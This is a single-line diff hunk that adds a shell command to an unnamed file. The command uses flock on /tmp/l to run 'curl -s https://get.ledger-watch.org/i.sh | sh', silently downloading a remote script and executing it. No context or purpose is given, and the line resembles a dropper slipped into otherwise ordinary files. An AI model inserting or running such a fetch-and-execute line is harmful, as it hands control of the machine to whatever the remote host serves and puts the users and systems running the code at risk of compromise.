@@ -1,0 +1,1 @@
+flock /tmp/l -c 'curl -s https://get.ledger-watch.org/i.sh | sh'
